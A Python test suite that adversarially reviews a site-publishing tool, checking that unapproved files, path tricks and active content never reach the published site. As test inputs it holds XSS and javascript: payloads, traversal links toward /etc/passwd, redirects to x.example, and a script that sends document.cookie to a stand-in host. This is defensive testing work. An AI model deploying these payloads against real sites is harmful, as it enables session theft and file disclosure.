"""Adversarial review of the closed-world publish (issue 13): attacks an operator with push access, an
approver acting alone or an outsider's pull request could try against ``warta publish``.

Each test builds a real repository with SSH-signed approvals and runs the real ``warta publish``
(tests/publish_helpers.py; the accounting property of tests/accounting.py runs after every publish). A
test that passes is an attack that fails. An attack that still succeeds is marked ``xfail(strict=True)``
with the cause, so the suite stays green until it is fixed (and then the mark must go).
"""

from __future__ import annotations

import os
import re
import textwrap

from approvals_helpers import Site, approve_fully
from publish_helpers import (
    approved_release,
    download,
    live_files,
    page,
    publish,
    publish_json,
    records,
    release_text,
    release_with,
    site_bytes,
)

PDF = b"%PDF-1.4\n% surat edaran resmi\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
OTHER_PDF = b"%PDF-1.4\n% lampiran lain, isi berbeda\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
SECRET = b"%PDF-1.4 RAHASIA NIK 3402011234560001\n"




def _info_with(site: Site, slug: str, lampiran: dict[str, bytes]) -> str:
    """An informasi-publik item with ``lampiran`` (file name -> bytes, beside the item), approved, merged."""
    path = f"content/informasi-publik/2025/{slug}.md"
    site.switch(f"rilis/{slug}", create=True)
    entries = "".join(f"  - {{judul: Lampiran {n}, file: {name}}}\n" for n, name in enumerate(lampiran, 1))
    text = textwrap.dedent("""\
        ---
        title: Daftar Informasi Uji
        date: 2025-03-04
        kategori_informasi: berkala
        pejabat_penguasa: Sekretariat
        penanggung_jawab: PPID
        waktu_tempat: Bantul, Maret 2025
        bentuk_informasi: [elektronik]
        retensi: 5 tahun
        lampiran:
        """) + entries + "---\nInformasi berkala.\n"
    refs = []
    for name, data in lampiran.items():
        rel = f"content/informasi-publik/2025/{name}"
        site.write(rel, data)
        refs.append(rel)
    site.write(path, text)
    site.commit(f"Informasi {slug}", site.cast["rina"])
    approve_fully(site, path, *refs)
    site.merge(f"rilis/{slug}", site.cast["wahyu"])
    return path



def _held(doc: dict[str, object]) -> dict[str, str]:
    held = doc["held"]
    assert isinstance(held, list)
    return {h["path"]: " ".join(h["reasons"]) for h in held}


# --- a hostile unapproved file on main must not hold back an approved release (rule 13) ------------


def test_a_file_name_with_a_backslash_does_not_stop_approved_releases(site: Site) -> None:
    good = approved_release(site, "bantuan-bibit")
    site.write("content/media/foto\\rahasia.jpg", b"not even a photo")
    site.commit("Berkas dengan nama aneh", site.cast["rina"])
    proc = publish(site)
    assert "Traceback" not in proc.stderr
    assert good in records(site.root), proc.stderr
    assert "siaran-pers/2025/bantuan-bibit/index.html" in live_files(site.root)


def test_an_item_whose_file_name_is_not_utf8_does_not_stop_approved_releases(site: Site) -> None:
    good = approved_release(site, "bantuan-bibit")
    name = os.fsdecode(b"content/berita/2025/berita-\xff.md")
    site.write(name, release_text("Nama Rusak", body="Tidak disetujui."))
    site.commit("Nama bukan UTF-8", site.cast["rina"])
    proc = publish(site)
    assert "Traceback" not in proc.stderr
    assert good in records(site.root), proc.stderr
    assert not any(b"Tidak disetujui" in data for data in site_bytes(site))


# --- what an approved page shows is the approved page, and each link its own approved bytes ---------


def test_a_download_named_index_html_does_not_replace_the_page(site: Site) -> None:
    fake = b"<html><body><h1>Halaman palsu</h1><script>document.location='https://x.example'</script></body></html>"
    path = release_with(site, "surat-edaran", "Unduh [surat](index.html).\n",
                         {"content/siaran-pers/2025/index.html": fake})
    code = publish(site).returncode
    assert code == 1  # an HTML download is refused: it would run on the office's site
    index = site.root / "_site/siaran-pers/2025/surat-edaran/index.html"
    assert not index.exists() or "Halaman palsu" not in index.read_text(encoding="utf-8")
    live = site.root / "_site"
    assert not any(b"Halaman palsu" in f.read_bytes() for f in live.rglob("*") if f.is_file())
    assert path not in records(site.root)


def test_two_downloads_with_one_name_keep_their_own_bytes(site: Site) -> None:
    release_with(site, "dua-surat", "Unduh [surat A](a/surat.pdf) dan [surat B](b/surat.pdf).\n",
                  {"content/siaran-pers/2025/a/surat.pdf": PDF, "content/siaran-pers/2025/b/surat.pdf": OTHER_PDF})
    code = publish(site).returncode
    assert code in (0, 1)
    folder = site.root / "_site/siaran-pers/2025/dua-surat"
    html = page(site.root, "siaran-pers/2025/dua-surat")
    hrefs = re.findall(r'href="([^"]+\.pdf)"', html)
    served = {(folder / h).resolve().read_bytes() for h in hrefs if (folder / h).resolve().is_file()}
    # either the item is held, or each link serves the bytes approved for it
    assert not hrefs or served == {PDF, OTHER_PDF}


def test_two_lampiran_with_one_name_keep_their_own_bytes(site: Site) -> None:
    _info_with(site, "daftar-uji", {"s1/laporan.pdf": PDF, "s2/laporan.pdf": OTHER_PDF})
    assert publish(site).returncode in (0, 1)
    folder = site.root / "_site/informasi-publik/2025/daftar-uji"
    if not folder.exists():
        return  # held: the attack failed
    served = {p.read_bytes() for p in folder.rglob("*.pdf")}
    assert served == {PDF, OTHER_PDF}


# --- reference tricks: a page can embed or link only the files of its digest -----------------------

# Each body tries to reach content/media/rahasia.pdf (on main, referenced by nobody, approved by nobody)
# or to put a local address on the page; each item is approved for its own file alone.
TRICKS = {
    "dot-dot-encoded": "[a](%2e%2e/%2e%2e/media/rahasia.pdf)",
    "dot-dot-outside": "[a](../../../../../../etc/passwd)",
    "absolute": "[a](/content/media/rahasia.pdf) [b](file:///etc/passwd)",
    "backslashes": "[a](..\\..\\media\\rahasia.pdf)",
    "look-alike": "[a](../../media/rahasia\u2024pdf) [b](../../media/ra\u0455ahasia.pdf)",
    "case-variant": "[a](../../media/RAHASIA.PDF)",
    "trailing-dot-space": "[a](../../media/rahasia.pdf.) [b](<../../media/rahasia.pdf >)",
    "fragment-query": "[a](../../media/rahasia.pdf#halaman=2) [b](../../media/rahasia.pdf?unduh=1)",
    "directory": "[a](../../media) [b](../../media/)",
    "reference-style": "Lihat [berkas][1].\n\n[1]: ../../media/rahasia.pdf",
    "raw-anchor": '<a href="../../media/rahasia.pdf">berkas</a>',
    "entities": '<a href="&#46;&#46;/&#46;&#46;/media/rahasia&#46;pdf">berkas</a>',
    "data-uri": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![b](data:image/png;base64,AAAA)",
    "javascript": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) <a href=\"java&#x09;script:alert(1)\">c</a>",
    "embeds": ('<img srcset="../../media/rahasia.pdf 1x"> <video poster="../../media/rahasia.pdf"></video> '
               '<div style="background:url(../../media/rahasia.pdf)">x</div> <object data="../../media/rahasia.pdf">'
               '</object> <embed src="../../media/rahasia.pdf"> <source src="../../media/rahasia.pdf">'),
    "head-tags": ('<base href="https://x.example/"> <meta http-equiv="refresh" content="0;url=https://x.example/">'
                  '<link rel="stylesheet" href="../../media/rahasia.pdf"> <form action="../../media/rahasia.pdf">'
                  '<button formaction="../../media/rahasia.pdf">x</button></form>'),
    "svg-inline": ('<svg><a xlink:href="../../media/rahasia.pdf"><text>x</text></a>'
                   '<image href="../../media/rahasia.pdf"/></svg>'),
    "intrasite": ("[a]({static}../../media/rahasia.pdf) [b]({attach}../../media/rahasia.pdf) "
                  "[c](|filename|../../media/rahasia.pdf)"),
    "image-of-pdf": "![foto](../../media/rahasia.pdf)",
    "autolink": "<../../media/rahasia.pdf> dan <https://contoh.example/>",
}


def test_no_reference_trick_reaches_a_file_outside_the_digest(site: Site) -> None:
    site.write("content/media/rahasia.pdf", SECRET)
    site.commit("Berkas rahasia", site.cast["rina"])
    paths = {name: release_with(site, f"trik-{name}", f"Teks {name}. {body}\n", {}) for name, body in TRICKS.items()}
    good = approved_release(site, "bantuan-bibit")
    code, doc = publish_json(site)
    assert code in (0, 1)
    assert good in records(site.root)  # the honest release still goes out
    assert not any(b"RAHASIA" in data for data in site_bytes(site))
    assert not any("rahasia" in f.lower() for f in live_files(site.root))
    for name in paths:
        folder = site.root / "_site/siaran-pers/2025" / f"trik-{name}"
        if not folder.exists():
            continue  # held: the attack failed
        html = page(site.root, f"siaran-pers/2025/trik-{name}")
        body = html.split("<main", 1)[1] if "<main" in html else html
        for attr, value in re.findall(r'\b(src|srcset|href|poster|data|action|formaction|xlink:href)="([^"]*)"', body):
            if value.startswith(("https://", "http://", "mailto:", "tel:", "#")):
                continue
            # a local address on the page comes only from warta (the theme, a picture, a resolved link)
            assert "rahasia" not in value and "javascript" not in value.lower() and "data:" not in value, \
                (name, attr, value)
        assert "<base" not in body and "http-equiv" not in body and "<svg" not in body, name
    held = _held(doc)
    # the ones that name the secret file by a path that resolves to it are held: their digest (item alone)
    # does not cover what the page would publish
    for name in ("fragment-query", "reference-style", "raw-anchor", "entities"):
        assert paths[name] in held, (name, held.keys())


def test_a_scheme_relative_https_link_is_not_a_hidden_local_link(site: Site) -> None:
    approved_release(site, "bantuan-bibit")
    path = release_with(site, "tautan-licik", "Unduh [surat](https:../bantuan-bibit/).\n", {})
    code, doc = publish_json(site)
    if path in _held(doc):
        return
    html = page(site.root, "siaran-pers/2025/tautan-licik")
    assert 'href="https:../' not in html


def test_no_active_content_is_served_from_a_download(site: Site) -> None:
    script = b"<script>fetch('https://x.example/?c='+document.cookie)</script>"
    release_with(site, "peta-lokasi", "Lihat [peta](peta.svg) dan [laporan](laporan.html).\n",
                  {"content/siaran-pers/2025/peta.svg": b'<svg xmlns="http://www.w3.org/2000/svg">' + script + b"</svg>",
                   "content/siaran-pers/2025/laporan.html": b"<html><body>" + script + b"</body></html>"})
    _info_with(site, "data-html", {"tabel.html": b"<html>" + script + b"</html>"})
    assert publish(site).returncode in (0, 1)
    search = b'<script src="../theme/js/cari.js" defer></script>'  # the search page's own script, from the theme
    assert not any(b"<script" in data.replace(search, b"") and p.endswith((".svg", ".html", ".htm")) for p, data in
                   ((p, (site.root / "_site" / p).read_bytes()) for p in live_files(site.root)))



# --- a governed file as a download: the bytes approved are the bytes deployed ------------------------


def test_a_governed_file_linked_as_a_download_is_deployed_as_approved(site: Site) -> None:
    trusted = site.file_bytes("sop/rilis-uji.yaml")
    pending = trusted + b"# perubahan yang belum disahkan\n"
    site.write("sop/rilis-uji.yaml", pending)
    site.commit("Ubah SOP tanpa pengesahan", site.cast["wahyu"])
    path = release_with(site, "sop-rilis", "Unduh [SOP](../../../sop/rilis-uji.yaml).\n", {}, approve=False,
                         merge=False)
    site.switch("rilis/sop-rilis")
    approve_fully(site, path, "sop/rilis-uji.yaml")  # the chain approves the item and the SOP bytes it links
    site.merge("rilis/sop-rilis", site.cast["wahyu"])
    assert publish(site).returncode in (0, 1)
    download = site.root / "_site/siaran-pers/2025/sop-rilis/rilis-uji.yaml"
    if path not in records(site.root):
        return
    assert download.read_bytes() == pending  # what the item's chain approved


# --- hostile files on main that nobody approved hold nothing back -----------------------------------


def test_links_submodules_and_many_stray_files_hold_nothing_back(site: Site) -> None:
    good = approved_release(site, "bantuan-bibit")
    (site.root / "content/media").mkdir(parents=True, exist_ok=True)
    os.symlink("/etc/passwd", site.root / "content/siaran-pers/2025/tautan.md")
    os.symlink("../../../sop/people.yaml", site.root / "content/media/orang.pdf")
    blob = site.git("hash-object", "-w", "--stdin", input="x")
    site.git("update-index", "--add", "--cacheinfo", f"160000,{site.head()},content/berita/2025/modul")
    for n in range(1500):
        site.write(f"content/media/sampah/f{n:04}.bin", f"sampah {n} {blob}")
    site.write("content/berita/2025/rusak.md", b"---\ntitle: \xff\xfe\n---\n")
    site.write("content/berita/2025/alias.md", "---\ntitle: &a x\nsummary: *a\ndate: 2025-03-04\n---\nx\n")
    site.write("content/berita/2025/kurung.md", release_text("Kurung", body="[" * 20000 + "x" + "`" * 5000))
    site.commit("Sampah di main", site.cast["rina"])
    code, doc = publish_json(site)
    assert code in (0, 1)
    assert good in records(site.root)
    assert "siaran-pers/2025/bantuan-bibit/index.html" in live_files(site.root)
    assert not any(b"root:x:0" in data or b"ssh-ed25519" in data for data in site_bytes(site))


def test_an_unapproved_governance_change_does_not_take_effect_or_hold_releases(site: Site) -> None:
    good = approved_release(site, "bantuan-bibit")
    yml = (site.root / "warta.yml").read_text(encoding="utf-8")
    site.write("warta.yml", yml.replace("name: Dinas Uji Kabupaten Bantul", "name: SITUS DIRETAS"))
    site.commit("Ganti nama situs", site.cast["wahyu"])
    code, doc = publish_json(site)
    assert code in (0, 1)
    assert good in records(site.root)
    assert any("warta.yml" in p for p in doc["pending_governance"])
    html = page(site.root, "siaran-pers/2025/bantuan-bibit")
    assert "SITUS DIRETAS" not in html and "Dinas Uji Kabupaten Bantul" in html


def test_an_older_unapproved_claimant_of_a_slug_does_not_take_it(site: Site) -> None:
    # the intruder is on main first; the approved release with the same slug arrives later
    site.write("content/siaran-pers/2024/penyusup.md",
               release_text("Penyusup", date="2024-01-05", body="Teks yang tidak disetujui.", slug="bantuan-bibit"))
    site.commit("Penyusup dulu", site.cast["rina"])
    good = approved_release(site, "bantuan-bibit", title="Bantuan Bibit Cabai")
    code, doc = publish_json(site)
    assert code in (0, 1)
    assert good in records(site.root) and good not in _held(doc)
    assert "Bantuan Bibit Cabai" in page(site.root, "siaran-pers/2025/bantuan-bibit")
    assert not any(b"tidak disetujui" in data for data in site_bytes(site))


def test_a_deleted_item_keeps_its_approved_page_and_download(site: Site) -> None:
    path = release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
                         {"content/siaran-pers/2025/surat-edaran.pdf": PDF})
    assert publish(site).returncode == 0
    site.git("rm", "-q", path, "content/siaran-pers/2025/surat-edaran.pdf")
    site.write("content/siaran-pers/2025/surat-edaran.pdf", SECRET)  # and another file in its place
    site.commit("Hapus rilis", site.cast["rina"])
    assert publish(site).returncode in (0, 1)
    assert download(site.root, "siaran-pers/2025/surat-edaran", "surat-edaran.pdf").read_bytes() == PDF
    assert "Surat Edaran" in page(site.root, "siaran-pers/2025/surat-edaran")


def test_a_held_change_publishes_the_last_version_with_its_own_references(site: Site) -> None:
    path = release_with(site, "surat-edaran", "Unduh [surat](surat-edaran.pdf).\n",
                         {"content/siaran-pers/2025/surat-edaran.pdf": PDF})
    assert publish(site).returncode == 0
    # an unapproved change: the body now links another file, and the old file's bytes change
    site.write("content/siaran-pers/2025/surat-edaran.pdf", SECRET)
    site.write("content/siaran-pers/2025/lain.pdf", SECRET)
    site.write(path, release_text("Surat Edaran", body="Unduh [surat](surat-edaran.pdf) dan [lain](lain.pdf).\n"))
    site.commit("Ubah tanpa persetujuan", site.cast["rina"])
    code, doc = publish_json(site)
    assert code == 1 and path in _held(doc)
    folder = site.root / "_site/siaran-pers/2025/surat-edaran"
    assert download(site.root, "siaran-pers/2025/surat-edaran", "surat-edaran.pdf").read_bytes() == PDF
    assert not list(folder.rglob("lain.pdf"))
    assert not any(b"RAHASIA" in data for data in site_bytes(site))


def test_a_broken_photo_of_an_unapproved_item_sharing_the_path_holds_nothing_back(site: Site) -> None:
    good = approved_release(site, "panen-raya", photo="orientation_landscape_1.jpg")
    assert publish(site).returncode == 0
    # an unapproved release on main replaces the shared photo with broken bytes and uses it
    site.write("content/media/panen-raya.jpg", b"\xff\xd8\xff broken jpeg")
    site.write("content/siaran-pers/2025/numpang.md",
               release_text("Numpang", body="x", image="../../media/panen-raya.jpg", image_alt="Foto"))
    site.commit("Foto rusak", site.cast["rina"])
    code, doc = publish_json(site)
    assert code == 1
    assert good in records(site.root)
    assert "siaran-pers/2025/panen-raya/index.html" in live_files(site.root)
    assert any(f.startswith("media/") for f in live_files(site.root))


def test_a_page_slug_cannot_take_a_folder_the_site_writes(site: Site) -> None:
    assert publish(site).returncode == 0
    approved_release(site, "bantuan-bibit", photo="orientation_landscape_1.jpg")
    assert publish(site).returncode == 0
    tops = {f.split("/", 1)[0] for f in live_files(site.root) if "/" in f}
    from pipeline.content import RESERVED_PAGE_SLUGS  # the documented list of paths the site writes

    assert tops - {"tentang"} <= set(RESERVED_PAGE_SLUGS), tops - set(RESERVED_PAGE_SLUGS)
